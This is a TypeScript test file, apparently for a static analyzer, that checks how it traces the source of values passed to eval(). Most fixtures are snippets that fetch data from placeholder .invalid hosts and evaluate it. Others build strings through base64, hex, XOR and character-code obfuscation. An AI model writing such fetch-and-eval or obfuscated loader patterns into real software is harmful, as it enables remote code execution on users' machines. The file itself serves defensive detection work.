import { describe, expect, it } from 'vitest';
import { factsOf, show, sinksIn } from '../testing/show.ts';

/** First argument of the first sink of kind eval. */
async function evaluated(code: string, name?: string): Promise<string> {
  const facts = await factsOf(code, name);
  const sink = facts.sinks.find((one) => one.kind === 'eval');
  return sink?.args[0] === undefined ? 'no eval' : show(sink.args[0]);
}

const GET = '<axios#get>("https://a.invalid")';

const FLOWS: readonly (readonly [title: string, code: string, value: string])[] = [
  [
    'await',
    'const axios = require("axios"); async function f() { const r = await axios.get("https://a.invalid"); eval(r.data) } f()',
    `${GET}.data`,
  ],
  [
    'then',
    'const axios = require("axios"); axios.get("https://a.invalid").then((r) => { eval(r.data.cookie) })',
    `${GET}.data.cookie`,
  ],
  [
    'then of a named function',
    'const axios = require("axios"); function run(r) { eval(r.data) } axios.get("https://a.invalid").then(run)',
    `${GET}.data`,
  ],
  [
    'chain of thens',
    'const axios = require("axios"); axios.get("https://a.invalid").then((r) => r.data).then((d) => eval(d.x))',
    `${GET}.data.x`,
  ],
  [
    'destructured',
    'const axios = require("axios"); (async () => { const { data: { cookie: c } } = await axios.get("https://a.invalid"); eval(c) })()',
    `${GET}.data.cookie`,
  ],
  [
    'destructured parameter',
    'import axios from "axios"; axios.get("https://a.invalid").then(({ data }) => eval(data))',
    '<axios#default>.get("https://a.invalid").data',
  ],
  [
    'through a function',
    'const axios = require("axios"); const fetchIt = async (u) => { const { data } = await axios.get(u); return data }; (async () => { const c = await fetchIt("https://a.invalid"); eval(c) })()',
    `${GET}.data`,
  ],
  [
    'through a class',
    'const axios = require("axios"); class Api { constructor(u) { this.u = u } async load() { const r = await axios.get(this.u); return r.data } } new Api("https://a.invalid").load().then((d) => eval(d))',
    `${GET}.data`,
  ],
  [
    'through an object method',
    'const axios = require("axios"); const api = { load: () => axios.get("https://a.invalid") }; api.load().then((r) => eval(r.data))',
    `${GET}.data`,
  ],
  [
    'a callback parameter',
    'const axios = require("axios"); function load(cb) { axios.get("https://a.invalid").then((r) => cb(null, r.data)) } load((err, d) => eval(d))',
    `${GET}.data`,
  ],
  [
    'a new promise',
    'const https = require("https"); const get = (u) => new Promise((resolve) => https.get(u, (res) => { let d = ""; res.on("data", (c) => { d += c }); res.on("end", () => resolve(d)) })); get("https://a.invalid").then((t) => eval(t))',
    'delivered0(delivered0(<https#get>("https://a.invalid", fn3)).on("data", fn4))',
  ],
  [
    'collected chunks',
    'const https = require("https"); https.get("https://a.invalid", (res) => { const parts = []; res.on("data", (c) => parts.push(c)); res.on("end", () => eval(Buffer.concat(parts).toString())) })',
    'Buffer.concat([delivered0(delivered0(<https#get>("https://a.invalid", fn1)).on("data", fn2))]).toString()',
  ],
  [
    'request with a callback',
    'const request = require("request"); request("https://a.invalid", (e, r, body) => eval(body))',
    'delivered2(<request#*>("https://a.invalid", fn1))',
  ],
  [
    'fetch and text',
    'fetch("https://a.invalid").then((r) => r.text()).then(eval.bind(null)); (async () => { const t = await (await fetch("https://b.invalid")).json(); eval(t.model) })()',
    'fetch("https://a.invalid").text()',
  ],
  [
    'the failure of a promise',
    'const axios = require("axios"); axios.get("https://a.invalid").then((r) => r.data).catch((err) => eval(err.response.data))',
    `failure(${GET}).response.data`,
  ],
  [
    'second argument of then',
    'const axios = require("axios"); axios.get("https://a.invalid").then(() => {}, (err) => eval(err.response.data))',
    `failure(${GET}).response.data`,
  ],
  [
    'a catch clause',
    'const axios = require("axios"); (async () => { try { await axios.get("https://a.invalid") } catch ({ response }) { eval(response.data) } })()',
    `failure(${GET}).response.data`,
  ],
  [
    'a catch clause around a function',
    'const axios = require("axios"); const go = async () => { const r = await axios.get("https://a.invalid"); use(r) }; async function run() { try { await go() } catch (e) { eval(e.response.data) } } run()',
    `failure(${GET}).response.data`,
  ],
  [
    'property assignment',
    'const axios = require("axios"); const config = {}; config.url = "https://a.invalid"; axios.get(config.url).then((r) => eval(r.data))',
    `${GET}.data`,
  ],
  [
    'this assignment',
    'const axios = require("axios"); class A { async start() { this.r = await axios.get("https://a.invalid"); this.go() } go() { eval(this.r.data) } } new A().start()',
    `${GET}.data`,
  ],
  [
    'typescript',
    'import axios from "axios"; const run = async (u: string): Promise<void> => { const r = (await axios.get<string>(u)) as { data: string }; eval(r!.data) }; run("https://a.invalid" as const)',
    '<axios#default>.get("https://a.invalid").data',
  ],
  [
    'compiled async (awaiter)',
    'var axios_1 = __importDefault(require("axios")); function f() { return __awaiter(this, void 0, void 0, function* () { const r = yield axios_1.default.get("https://a.invalid"); eval(r.data) }) } f()',
    '<axios#default>.get("https://a.invalid").data',
  ],
  [
    'a logical default',
    'const axios = require("axios"); const u = process.env.URL || "https://a.invalid"; axios.get(u).then((r) => eval(r.data))',
    '<axios#get>(any(process.env.URL | "https://a.invalid")).data',
  ],
  ['a conditional', 'eval(ok ? a : b)', 'any(a | b)'],
  [
    'optional chaining',
    'const axios = require("axios"); axios.get("https://a.invalid").then((r) => eval(r?.data?.["x"]))',
    `${GET}.data.x`,
  ],
  [
    'forEach',
    'const axios = require("axios"); ["https://a.invalid"].forEach(async (u) => { const r = await axios.get(u); eval(r.data) })',
    `${GET}.data`,
  ],
  [
    'for of',
    'const axios = require("axios"); (async () => { for (const u of ["https://a.invalid"]) { const r = await axios.get(u); eval(r.data) } })()',
    `${GET}.data`,
  ],
  [
    'Promise.all',
    'const axios = require("axios"); (async () => { const [a] = await Promise.all([axios.get("https://a.invalid")]); eval(a.data) })()',
    `${GET}.data`,
  ],
  [
    'JSON.parse stays',
    'const fs = require("fs"); eval(JSON.parse(fs.readFileSync("x.json", "utf8")).code)',
    'JSON.parse(<fs#readFileSync>("x.json", "utf8")).code',
  ],
  [
    'a socket message',
    'const ws = new WebSocket("wss://a.invalid"); ws.on("message", (m) => eval(m))',
    'delivered0(new WebSocket("wss://a.invalid").on("message", fn1))',
  ],
  ['an iife argument', '(function (u) { eval(u) })(fetch("https://a.invalid"))', 'fetch("https://a.invalid")'],
  [
    'a switch over generators',
    'function f() { return __generator(this, function (_a) { switch (_a.label) { case 0: return [4, fetch("https://a.invalid")]; case 1: r = _a.sent(); eval(r.body); return [2] } }) } var r; f()',
    'fetch("https://a.invalid").body',
  ],
  [
    'regenerator',
    'function f() { return _regenerator().wrap(function (_context) { while (1) switch (_context.prev = _context.next) { case 0: _context.next = 2; return fetch("https://a.invalid"); case 2: r = _context.sent; eval(r.body); case 4: return _context.stop() } }) } var r; f()',
    'fetch("https://a.invalid").body',
  ],
];

describe('where an evaluated value comes from', () => {
  it.each(FLOWS)('%s', async (title, code, value) => {
    expect(await evaluated(code, title === 'typescript' ? 'file.ts' : 'file.js')).toBe(value);
  });
});

const CONSTANTS: readonly (readonly [string, string])[] = [
  ["const a = 'htt' + 'ps://'; eval(a + `x.invalid/${1 + 1}`)", '"https://x.invalid/2"~joined'],
  ["eval(atob('aGVsbG8='))", '"hello"~base64'],
  [
    "const dec = (s) => Buffer.from(s, 'base64').toString('utf8'); dec('eA=='); eval(dec('aGVsbG8='))",
    '"hello"~base64',
  ],
  ["function h(x) { return Buffer.from(x, 'hex').toString() } eval(h('68656c6c6f'))", '"hello"~hex'],
  ["eval('olleh'.split('').reverse().join(''))", '"hello"~split.reversed.joined'],
  ['eval(String.fromCharCode(104, 105))', '"hi"~char-codes'],
  ['eval([105, 104].map((c) => String.fromCharCode(c ^ 1)).join(""))', '"hi"~xor.char-codes.joined'],
  [
    'const key = [1, 2]; eval(String.fromCharCode(...[105, 107].map((b, i) => b ^ key[i % key.length])))',
    '"hi"~xor.char-codes',
  ],
  ["eval(decodeURIComponent('%68%69'))", '"hi"~percent'],
  ["eval(unescape('%68%69'))", '"hi"~percent'],
  ['eval(new TextDecoder().decode(new Uint8Array([104, 105])))', '"hi"~char-codes'],
  ['eval(Buffer.from([104, 105]).toString())', '"hi"~char-codes'],
  ["eval(Buffer.concat([Buffer.from('aA==', 'base64'), Buffer.from('i')]).toString())", '"hi"~base64.joined'],
  ["let s = 'h'; s += 'i'; eval(s)", '"hi"~joined'],
  ["const t = ['x', 'hi']; eval(t[1])", '"hi"'],
  ["const o = { a: { b: 'hi' } }; const { a: { b } } = o; eval(b)", '"hi"'],
  ["eval('\\x68\\u0069')", '"hi"'],
  ["eval('hxi'.replace('x', ''))", '"hi"~replace'],
  ["eval('a|hi'.split('|')[1])", '"hi"~split'],
  ["enum E { A = 'hi' } eval(E.A)", '"hi"'],
  ["const C = Object.freeze({ u: 'hi' }); eval(C.u)", '"hi"'],
  ["class K { static U = 'hi' } eval(K.U)", '"hi"'],
  ["eval(require('path').join(__dirname, 'a', '..', 'b.js'))", '"./b.js"~path'],
  [
    "import path from 'path'; import { fileURLToPath } from 'url'; const __dirname = path.dirname(fileURLToPath(import.meta.url)); eval(path.resolve(__dirname, '../x.js'))",
    '"../x.js"~path',
  ],
  ['eval(`${__dirname}/x.js`)', '"./x.js"~path'],
  ["eval(new URL('./x.js', import.meta.url).pathname)", '"./x.js"~path'],
  ["eval(new URL('/p', 'https://h.invalid').href)", '"https://h.invalid/p"'],
  ['eval([104, 105].map(Number).map(String.fromCharCode).join(""))', '"hi"~char-codes.joined'],
  ["eval(['h', '', 'i'].filter(Boolean).join(''))", '"hi"~joined'],
  [
    "eval('68.69'.split('.').map((h) => String.fromCharCode(parseInt(h, 16))).join(''))",
    '"hi"~split.char-codes.joined',
  ],
  ["process.env.TARGET = 'hi'; eval(process.env.TARGET)", 'any("hi" | process.env.TARGET)'],
  ["eval(1 ? 'a' : 'b')", '"a"'],
  ["eval(!0 && 'x')", '"x"'],
];

describe('constants that code computes', () => {
  it.each(CONSTANTS)('%s', async (code, value) => {
    expect(await evaluated(code, 'file.ts')).toBe(value);
  });
});

describe('what is unknown stays unknown', () => {
  it('keeps the parameter of an exported function that others may call', async () => {
    expect(await evaluated('exports.run = (code) => eval(code)')).toBe('param(1,0)');
    expect(await evaluated('function run(code) { eval(code) } run("x"); module.exports = { run }')).toBe(
      'any("x" | param(1,0))',
    );
  });
  it('cuts cycles', async () => {
    expect(await sinksIn('let a = b; var b = a; eval(a)')).toHaveLength(1);
    expect(await sinksIn('function f(n) { return f(n - 1) } eval(f(3))')).toHaveLength(1);
    expect(await sinksIn('const f = (x) => g(x), g = (x) => f(x); eval(f(g(1)))')).toHaveLength(1);
  });
});
